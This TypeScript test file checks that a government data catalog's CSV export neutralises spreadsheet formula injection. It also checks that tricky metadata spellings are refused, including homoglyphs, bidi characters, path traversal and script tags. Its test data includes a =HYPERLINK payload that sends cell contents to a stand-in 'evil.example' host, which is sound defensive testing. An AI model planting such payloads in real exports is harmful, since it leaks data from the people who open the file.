import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, CSV_HEADER } from '../../gateway/platform/catalog-export.ts';
import { startStack, STATE_KINDS, type Stack } from '../support/stack.ts';
import { as } from '../support/tokens.ts';
import { startRecordingSubgraph, type RecordingServer } from '../support/attackers/recording-subgraph.ts';
import { analyseSubgraphs } from '../../schema/policy-model.ts';
import { withShareDirectives } from '../../schema/share-sdl.ts';
import { checkSubgraphRules, SubgraphRulesError } from '../../subgraphs/kit/server.ts';
import type { SubgraphDefinition } from '../../subgraphs/kit/index.ts';
import { parseCsv } from '../support/csv.ts';

/**
 * A provider writes the catalog's texts (resource name, update cycle, conditions). The GB/T 21063 CSV
 * export is opened in spreadsheets on government desktops, where a cell starting with `=`, `+`, `-`,
 * `@`, TAB or CR runs as a formula (`=HYPERLINK(…)` sends what the reader clicks elsewhere).
 */
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1'];
const TRIGGER = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]|^\s+[=+\-@]/;
const gql = (s: string) => JSON.stringify(s);
/** Catalog metadata texts (issue 16 part 7) pass their own checks (printable, trimmed, one keyword each) and still start like formulas. */
const FORMULA_KEYWORDS = ['+1+1', '-2+3', '@SUM(A1:A9)', '＝1+1'];

const SDL = `
  type Query { formulaThing(id: ID!): FormulaThing @share(type: UNCONDITIONAL) }
  type FormulaThing @key(fields: "id")
    @resource(code: "TAX-CSV", name: ${gql(FORMULAS[0]!)}, category: DEPARTMENT, provider: "tax", updateCycle: ${gql(FORMULAS[1]!)}, summary: ${gql(FORMULAS[3]!)},
      openType: CONDITIONAL, openCondition: ${gql(FORMULAS[0]!)}, metadataMaintainer: ${gql(FORMULAS[3]!)}, keywords: ${JSON.stringify(FORMULA_KEYWORDS)}) {
    ${gql(FORMULAS[2]!)}
    id: ID! @share(type: UNCONDITIONAL)
    ${FORMULAS.map((f, i) => `f${i}: String @share(type: CONDITIONAL, condition: ${gql(f)})`).join('\n    ')}
  }`;


describe('csvCell', () => {
  it.each(FORMULAS)('neutralises %j and keeps its text', (formula) => {
    const [[cell]] = parseCsv(`${csvCell(formula)}\r\n`) as [[string]];
    expect(cell).toBe(`'${formula}`);
    expect(TRIGGER.test(cell)).toBe(false);
  });

  it('leaves ordinary text, and text with a sign inside it, as it is', () => {
    expect(csvCell('人口基础信息')).toBe('人口基础信息');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('2026-01-01')).toBe('2026-01-01');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
  });
});

describe.each(STATE_KINDS)('the catalog CSV export with a provider\'s formulas (%s state)', (stateKind) => {
  let stack: Stack;
  let subgraph: RecordingServer;
  beforeAll(async () => {
    stack = await startStack({ state: stateKind });
    subgraph = await startRecordingSubgraph(SDL, { Query: { formulaThing: (_: unknown, { id }: { id: string }) => ({ id }) } });
  });
  afterAll(async () => { await subgraph?.close(); await stack?.close(); });

  it('carries no cell a spreadsheet would run, and keeps the texts', async () => {
    const published = await stack.query('mutation($u: String!) { publishSubgraph(name: "tax-csv", url: $u) { ok errors { code message } } }',
      { u: subgraph.url }, await as('tax', { roles: ['provider'] }));
    expect(published.body.data.publishSubgraph).toEqual({ ok: true, errors: [] });

    const response = await fetch(`${stack.gatewayUrl}/catalog/export.csv`);
    const rows = parseCsv((await response.text()).replace(/^\uFEFF/, ''));
    expect(rows[0]).toEqual(CSV_HEADER);
    const ours = rows.filter((r) => r[1] === 'TAX-CSV');
    expect(ours.length).toBe(FORMULAS.length + 2); // Query.formulaThing, FormulaThing.id and one field per formula
    for (const row of rows) {
      expect(row).toHaveLength(CSV_HEADER.length);
      for (const cell of row) expect(TRIGGER.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
    }
    expect(ours[0]![0]).toBe(`'${FORMULAS[0]}`);
    expect(ours.map((r) => r[6])).toEqual(expect.arrayContaining(FORMULAS.slice(1).map((f) => `'${f}`)));
    // The catalog metadata columns: summary, open condition, maintainer and keywords, each kept as text.
    const column = (name: string) => CSV_HEADER.indexOf(name);
    expect([ours[0]![column('资源摘要')], ours[0]![column('开放条件')], ours[0]![column('元数据维护方')], ours[0]![column('关键字')]])
      .toEqual([`'${FORMULAS[3]}`, `'${FORMULAS[0]}`, `'${FORMULAS[3]}`, `'${FORMULA_KEYWORDS.join('；')}`]);
  });

  it('refuses at publish a subgraph that takes another department\'s 信息资源代码, and one that opens conditional data to the public', async () => {
    const token = await as('tax', { roles: ['provider'] });
    const before = stack.gateway.source.supergraph!.version;
    for (const [args, expected] of [
      // POP-PERSON's code, with the category that makes its 类 digit right.
      ['category: BASE, catalogCode: "101001/000001"', "catalogCode 101001/000001 is already resource POP-PERSON's"],
      ['category: DEPARTMENT, openType: UNCONDITIONAL', 'is openType UNCONDITIONAL (open to the public), but Taker.secret is not UNCONDITIONAL and unmasked'],
    ] as const) {
      const sdl = `type Query { taker(id: ID!): Taker @share(type: UNCONDITIONAL) }
        type Taker @key(fields: "id") @resource(code: "TAX-TAKER", name: "冒用", provider: "tax", updateCycle: "实时", ${args}) {
          id: ID! @share(type: UNCONDITIONAL)
          secret: String @share(type: CONDITIONAL, condition: "经批准")
        }`;
      const taker = await startRecordingSubgraph(sdl, { Query: { taker: (_: unknown, { id }: { id: string }) => ({ id }) } });
      try {
        const result = await stack.query('mutation($u: String!) { publishSubgraph(name: "tax-taker", url: $u) { ok errors { code message } } }', { u: taker.url }, token);
        expect(result.body.data.publishSubgraph.ok).toBe(false);
        expect(result.body.data.publishSubgraph.errors).toEqual([{ code: 'COMPOSITION_ERROR', message: expect.stringContaining(expected) }]);
      } finally {
        await taker.close();
      }
    }
    expect(stack.gateway.source.supergraph!.version).toBe(before);
    const listed = await stack.query('{ catalog { code catalogCode } }', {}, await as('tax'));
    expect(listed.body.data.catalog.filter((r: { catalogCode: string | null }) => r.catalogCode === '101001/000001')).toEqual([{ code: 'POP-PERSON', catalogCode: '101001/000001' }]);
  });
});

/**
 * A provider's catalog metadata is shown as it is in the catalog app and the exports, and related codes
 * become IRIs in the JSON-LD: other spellings of a code (full-width digits or slash, white space, a line
 * break), IRIs, paths and invisible or bidirectional characters are refused with COMPOSITION_ERROR, by
 * the gateway at composition and by the provider's own kit at start-up.
 */
describe('catalog metadata spellings that are refused', () => {
  const sdl = (args: string) => `
    type Query { thing(id: ID!): Thing @share(type: UNCONDITIONAL) }
    type Thing @key(fields: "id") @resource(code: "TAX-SPELL", name: "拼写", category: DEPARTMENT, provider: "tax", updateCycle: "实时", ${args}) {
      id: ID! @share(type: UNCONDITIONAL)
    }`;
  const SPELLINGS: Array<[string, string]> = [
    ['catalogCode', '３０１００１/000001'], ['catalogCode', '301001／000001'], ['catalogCode', ' 301001/000001'], ['catalogCode', '301001/000001\n'],
    ['catalogCode', '301001/000001 '], ['catalogCode', '301001//000001'], ['catalogCode', '3-01-001/000001'], ['catalogCode', '301001/0000a1'],
    ['catalogCode', '301001/000001\u200b'], ['catalogCode', '101001/000001'],
    ['relatedResources', 'http://evil.example/x'], ['relatedResources', '../POP-PERSON'], ['relatedResources', 'POP-PERSON#x'], ['relatedResources', '<script>'],
    ['keywords', '人口\u202e'], ['keywords', '\u200b人口'], ['keywords', '人口\n'], ['keywords', ' 人口'], ['keywords', '人口；户籍'],
    ['metadataMaintainer', 'public-security\u0000'], ['metadataMaintainer', '\u2066tax'],
    ['metadataUpdatedOn', '２０２６-11-20'], ['metadataUpdatedOn', '2026-11-20T00:00:00Z'], ['metadataUpdatedOn', '20261120'],
    ['openCondition', '公开\u202e'],
  ];
  const argument = (name: string, value: string) => {
    const literal = JSON.stringify(value);
    if (name === 'relatedResources' || name === 'keywords') return `${name}: [${literal}]`;
    if (name === 'openCondition') return `openType: CONDITIONAL, ${name}: ${literal}`;
    return `${name}: ${literal}`;
  };

  it.each(SPELLINGS)('refuses %s %j at composition and at the provider\'s start-up', (name, value) => {
    const text = sdl(argument(name, value));
    const { errors } = analyseSubgraphs([{ name: 'tax-spell', sdl: withShareDirectives(text) }]);
    expect(errors).toEqual([expect.objectContaining({ code: 'COMPOSITION_ERROR', coordinate: 'Thing' })]);
    expect(errors[0]!.message).toContain(name === 'keywords' ? 'keyword' : name);
    expect(() => checkSubgraphRules({ name: 'tax-spell', sdl: text } as SubgraphDefinition<unknown>)).toThrow(SubgraphRulesError);
  });
});
